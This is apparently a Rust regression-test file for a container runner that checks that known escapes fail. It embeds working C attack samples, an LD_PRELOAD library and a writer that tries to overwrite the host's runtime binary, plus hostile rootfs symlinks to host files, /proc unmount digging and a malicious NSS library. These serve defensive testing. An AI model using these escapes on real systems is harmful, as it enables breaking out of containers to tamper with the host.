//! Known escapes from containers: to runner's own program, to its init, and to the host by a hostile root.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::built::{Built, compile, project};
use crate::project::Project;
use crate::root::make_root;
use crate::runtime::runtime;

/// Returns the program that runs the containers, by its file on this host.
fn program() -> PathBuf {
    if runtime() == "runc" {
        let found = Command::new("sh").args(["-c", "command -v runc"]).output().unwrap();
        String::from_utf8(found.stdout).unwrap().trim().into()
    } else {
        env!("CARGO_BIN_EXE_runner").into()
    }
}

/// Loaded into any program that the dynamic loader starts: duplicates a descriptor of that program, and becomes the writer.
const PRELOADED: &str = r##"
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void take(void) {
    char number[16];
    int fd = open("/proc/self/exe", O_RDONLY);
    snprintf(number, sizeof number, "%d", fd);
    char *environment[] = {NULL};
    execle("/gift/writer", "writer", number, (char *)NULL, environment);
}
"##;

/// Tries to write to the program that a descriptor is open on, and then copies its content.
const WRITER: &str = r##"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/vfs.h>
#include <unistd.h>
int main(int argc, char **argv) {
    static char buffer[1 << 20];
    char path[64];
    int flags[] = {O_WRONLY, O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND};
    snprintf(path, sizeof path, "/proc/self/fd/%s", argv[1]);
    ssize_t length = readlink(path, buffer, sizeof buffer - 1);
    buffer[length < 0 ? 0 : length] = 0;
    printf("program %s\n", buffer);
    struct statfs on;
    fstatfs(atoi(argv[1]), &on);
    printf("on %lx\n", (long)on.f_type);
    if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0 || mount(NULL, path, NULL, MS_REMOUNT, NULL) == 0)
        puts("remounted");
    if (fchmod(atoi(argv[1]), 0777) == 0 || fchown(atoi(argv[1]), 1, 1) == 0)
        puts("given away");
    for (int i = 0; i < 3; i++) {
        int fd = open(path, flags[i]);
        if (fd >= 0 && write(fd, "#!/bin/evil\n", 12) > 0)
            printf("written with %x\n", flags[i]);
        if (fd >= 0 && (ftruncate(fd, 1) == 0 || ftruncate(fd, 1l << 31) == 0))
            printf("truncated with %x\n", flags[i]);
    }
    int from = open(path, O_RDONLY), to = open("/gift/copy", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    while ((length = read(from, buffer, sizeof buffer)) > 0)
        if (write(to, buffer, length) != length)
            return 1;
    return 0;
}
"##;

/// Returns a file's identity and content.
fn state(path: &Path) -> (u64, u64, std::time::SystemTime, Vec<u8>) {
    use std::os::unix::fs::MetadataExt;
    let metadata = fs::metadata(path).unwrap();
    let sum = Command::new("sha256sum").arg(path).output().unwrap().stdout;
    (metadata.ino(), metadata.len(), metadata.modified().unwrap(), sum[..64].to_vec())
}

/// Returns a library that runner itself or runc needs, and no program of the root.
fn library(name: &str) -> String {
    let found = Command::new("cc").arg(format!("-print-file-name={name}")).output().unwrap();
    String::from_utf8(found.stdout).unwrap().trim().to_owned()
}

#[test]
fn the_program_that_runs_containers_cannot_be_written_to_from_inside() {
    let program = program();
    let before = state(&program);
    for (name, step) in [
        ("as the command", "exec: [/proc/self/exe]"),
        ("as its own name", "exec: [/gift/link-to-exe]"),
        ("as an interpreter", "exec: [/gift/script]"),
    ] {
        let project = project(&format!(
            "
mounts:
  gift: {{ type: bind, source: gift, target: /gift }}
containers:
  c:
    rootfs: $TOOLS
    mounts: [gift]
    capabilities: {{ add: [SYS_PTRACE, SYS_ADMIN] }}
    env: {{ LD_PRELOAD: /gift/preloaded.so, LD_LIBRARY_PATH: /gift }}
steps:
  - {{ name: attack, {step} }}
  - {{ name: next, needs: [], env: {{ LD_PRELOAD: '' }}, run: echo works }}
"
        ));
        fs::create_dir(project.path("gift")).unwrap();
        for name in ["libgcc_s.so.1", "libm.so.6", "libseccomp.so.2"] {
            fs::copy(library(name), project.path("gift").join(name)).unwrap();
        }
        compile(&project, "gift/preloaded.so", PRELOADED, &["-shared", "-fPIC"]);
        compile(&project, "gift/writer", WRITER, &[]);
        symlink("/proc/self/exe", project.path("gift/link-to-exe")).unwrap();
        project.write("gift/script", "#!/proc/self/exe\n");
        fs::set_permissions(project.path("gift/script"), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();

        let built = Built::of(&project, &["--keep-going"]);
        let lines = built.lines("attack");
        assert_eq!(built.text("next"), "works\n", "{name}");
        if runtime() == "embedded" {
            // That program is init's, in sealed memory: it loads no library, and without its descriptors it ends.
            assert_eq!((built.ending("attack")["exit_code"].as_i64(), lines.len()), (Some(1), 0), "{name}: {lines:?}");
        } else {
            assert!(!lines[1..].iter().any(|line| line.contains(" with ")), "{name}: {lines:?}");
            let copy = state(&project.path("gift/copy"));
            assert_eq!((copy.1, &copy.3), (before.1, &before.3), "{name}: what it sees is the program");
        }
        assert_eq!(project.leftovers(built.run.pid), Vec::<String>::new());
    }
    assert!(before == state(&program), "the program on the host has changed");
}

#[test]
fn a_steps_proc_gives_no_access_to_init() {
    let project = project(
        r#"
containers:
  c: { rootfs: $TOOLS, capabilities: { add: [SYS_PTRACE, SYS_ADMIN] } }
steps:
  - name: dig
    run: |
      # Whatever is mounted below the step's own /proc comes to light.
      look() {
        for process in /proc/[0-9]*; do
          [ -e $process/mem ] && { tr "\0" " " < $process/cmdline; echo "is $process"; ls -l $process/exe $process/fd; }
        done
        return 0
      }
      while [ -e /proc/self/mountinfo ] && umount -l /proc; do look; done
      echo dug
  - { name: next, run: echo works }
"#,
    );
    let built = Built::succeed(&project);
    assert_eq!(built.lines("dig"), ["dug"]);
    assert_eq!(built.text("next"), "works\n");
}

/// Returns a directory of the host that a hostile root's links lead to, and a root, unpacked, with those links.
fn hostile(manifest: &str, links: &[(&str, &str)]) -> Project {
    let project = project(&format!(
        "
mounts:
  tmp: {{ type: tmpfs, target: /tmp }}
  cache: {{ type: cache, target: /etc/cache/deep }}
  file: {{ type: bind, source: note, target: /etc/new/note }}
devices:
  outside: {{ path: /dev/full, target: /etc/full }}
containers:
  c: {{ rootfs: {{ dir: root }}, {manifest} }}
steps:
  - {{ name: step, run: 'echo it runs; (echo evil > /etc/passwd; echo evil > /etc/resolv.conf; echo evil > /tmp/evil; echo evil > /proc/evil; echo evil > /dev/evil) || true' }}
"
    ));
    project.write("note", "note\n");
    project.write("victim/shadow", "secret\n");
    project.write("victim/etc/passwd", "ann:x:1000:1000::/:/bin/sh\n");
    for directory in ["dev", "proc", "sys", "tmp"] {
        fs::create_dir_all(project.path("victim").join(directory)).unwrap();
    }
    make_root(&project.path("root"));
    fs::create_dir_all(project.path("root/etc")).unwrap();
    for (at, to) in links {
        let at = project.path("root").join(at);
        remove(&at);
        symlink(to.replace("VICTIM", project.path("victim").to_str().unwrap()), at).unwrap();
    }
    project
}

fn remove(path: &Path) {
    match fs::symlink_metadata(path) {
        Ok(metadata) if metadata.is_dir() => fs::remove_dir_all(path).unwrap(),
        Ok(_) => fs::remove_file(path).unwrap(),
        Err(_) => {}
    }
}

/// Returns all files below a directory, with their content.
fn contents(directory: &Path) -> Vec<String> {
    let listed = Command::new("sh")
        .args(["-c", "find . -ls; find . -type f -exec sha256sum {} +"])
        .current_dir(directory)
        .output();
    String::from_utf8(listed.unwrap().stdout).unwrap().lines().map(str::to_owned).collect()
}

/// Builds on a root with those links; whether it fails or not, the victim and the root are unchanged.
#[track_caller]
fn unharmed(manifest: &str, links: &[(&str, &str)]) -> (Built, Project) {
    let project = hostile(manifest, links);
    let before = (contents(&project.path("victim")), contents(&project.path("root")), host_files());
    let built = Built::of(&project, &[]);
    assert_eq!(before, (contents(&project.path("victim")), contents(&project.path("root")), host_files()));
    assert_eq!(project.leftovers(built.run.pid), Vec::<String>::new());
    assert!(!built.run.stderr.contains("panicked"), "{}", built.run);
    (built, project)
}

fn host_files() -> Vec<Option<Vec<u8>>> {
    ["/etc/passwd", "/etc/resolv.conf", "/etc/full", "/tmp/evil", "/etc/new", "/etc/cache"]
        .map(|path| fs::read(path).ok().or_else(|| Path::new(path).exists().then(Vec::new)))
        .to_vec()
}

#[test]
fn links_to_the_host_in_place_of_a_roots_directories_do_no_harm() {
    let up = "../../../../../../../../../../../..VICTIM";
    for lead in ["VICTIM", up] {
        let links = ["etc", "run", "var"].map(|name| (name, format!("{lead}/{name}")));
        let links: Vec<(&str, &str)> = links.iter().map(|(at, to)| (*at, to.as_str())).collect();
        let (built, _project) = unharmed("network: host, mounts: [tmp, cache, file], devices: [outside]", &links);
        assert_eq!(built.status("step"), "ran", "{}", built.run);
        assert_eq!(built.lines("step")[0], "it runs");
    }
    for name in ["proc", "dev", "sys"] {
        let (built, _project) = unharmed("network: none", &[(name, &format!("VICTIM/{name}"))]);
        assert!(
            built.reason("step").contains(&format!("/{name} of the rootfs is a link to /tmp/runner-test-")),
            "{}",
            built.run
        );
    }
    // The victim lies below /tmp: inside, the link leads round and round.
    let (built, _project) = unharmed("mounts: [tmp]", &[("tmp", "VICTIM/tmp")]);
    assert!(built.reason("step").contains("mount target /tmp: Too many levels of symbolic links"), "{}", built.run);
}

#[test]
fn a_resolv_conf_that_is_a_link_or_a_directory_changes_no_file_of_the_host() {
    for to in [
        "/etc/shadow",
        "VICTIM/shadow",
        "../../../../../../etc/shadow",
        "/run/nowhere/resolv.conf",
        "resolv.conf",
        "/proc/self/mem",
    ] {
        let (built, _project) = unharmed("network: host", &[("etc/resolv.conf", to)]);
        if built.status("step") == "ran" {
            assert_eq!(built.lines("step")[0], "it runs", "{to}");
        } else {
            assert!(built.reason("step").contains("/etc/resolv.conf"), "{to}: {}", built.run);
        }
    }
    let project = hostile("network: host", &[]);
    remove(&project.path("root/etc/resolv.conf"));
    fs::create_dir(project.path("root/etc/resolv.conf")).unwrap();
    let built = Built::of(&project, &[]);
    let reason = built.reason("step");
    assert!(reason.contains("/etc/resolv.conf is a directory in the container"), "{reason}");
}

#[test]
fn users_are_not_looked_up_outside_the_root() {
    for to in ["VICTIM/etc/passwd", "../../../../../../../../../..VICTIM/etc/passwd", "/proc/self/environ"] {
        let (built, _project) = unharmed("user: ann", &[("etc/passwd", to)]);
        let reason = built.reason("step");
        assert!(reason.contains("user ann is not in /etc/passwd of the rootfs"), "{to}: {reason}");
    }
    let project = hostile("user: ann", &[]);
    remove(&project.path("root/etc/passwd"));
    let made = Command::new("mkfifo").arg(project.path("root/etc/passwd")).status().unwrap();
    assert!(made.success());
    let built = Built::of(&project, &[]);
    assert!(built.reason("step").contains("/etc/passwd of the rootfs is not a regular file"), "{}", built.run);
    assert_eq!(project.leftovers(built.run.pid), Vec::<String>::new());
}

#[test]
fn no_library_of_a_root_is_loaded_into_the_process_that_sets_the_container_up() {
    let project = hostile("network: none", &[]);
    let library = r#"
#include <fcntl.h>
#include <stdio.h>
__attribute__((constructor)) static void loaded(void) {
    FILE *out = fopen("/loaded", "a");
    if (out) { fputs("loaded\n", out); fclose(out); }
}
"#;
    compile(&project, "root/usr/lib/libnss_evil.so.2", library, &["-shared", "-fPIC"]);
    project.write("root/etc/nsswitch.conf", "passwd: evil\ngroup: evil\ninitgroups: evil\n");
    let steps = "  - { name: look, run: if test -e /loaded; then cat /loaded; fi }\n  - { name: use, run: id -un 0 || cat /loaded }\n";
    project.write("build.yaml", &(fs::read_to_string(project.path("build.yaml")).unwrap() + steps));
    let built = Built::of(&project, &[]);
    assert_eq!(built.text("look"), "");
    // A program that a step itself starts loads it: so the library is in the place where such libraries are found.
    assert!(built.text("use").contains("loaded"), "{}", built.run);
}

#[test]
fn a_mount_inside_another_one_does_not_follow_a_link_that_a_step_put_there() {
    let project = project(
        r#"
mounts:
  work: { type: bind, source: work, target: /work }
  deep: { type: tmpfs, target: /work/sub/deep }
  note: { type: bind, source: note, target: /work/sub/note }
containers:
  first: { rootfs: $TOOLS, mounts: [work] }
  second: { rootfs: $TOOLS, mounts: [work, deep, note] }
steps:
  - { name: lay, container: first, exec: [ln, -s, LEAD, /work/sub] }
  - { name: trip, container: second, needs: [lay], run: touch /work/sub/deep/x }
"#,
    );
    let manifest = fs::read_to_string(project.path("build.yaml")).unwrap();
    for lead in ["VICTIM", "../../../../../../../../../../..VICTIM", "/proc/1/rootVICTIM"] {
        for directory in ["work", "victim", "victim/deep"] {
            let path = project.path(directory);
            remove(&path);
            fs::create_dir_all(path).unwrap();
        }
        project.write("note", "note\n");
        project.write("victim/note", "precious\n");
        let lead = lead.replace("VICTIM", project.path("victim").to_str().unwrap());
        project.write("build.yaml", &manifest.replace("LEAD", &lead));
        let before = contents(&project.path("victim"));
        let built = Built::of(&project, &[]);
        assert_eq!(built.status("lay"), "ran", "{}", built.run);
        assert_eq!(contents(&project.path("victim")), before, "{lead}");
        assert_eq!(project.leftovers(built.run.pid), Vec::<String>::new());
    }
}

also_with_runc! {
    the_program_that_runs_containers_cannot_be_written_to_from_inside,
    a_steps_proc_gives_no_access_to_init,
    links_to_the_host_in_place_of_a_roots_directories_do_no_harm,
    a_resolv_conf_that_is_a_link_or_a_directory_changes_no_file_of_the_host,
    no_library_of_a_root_is_loaded_into_the_process_that_sets_the_container_up,
    a_mount_inside_another_one_does_not_follow_a_link_that_a_step_put_there,
}
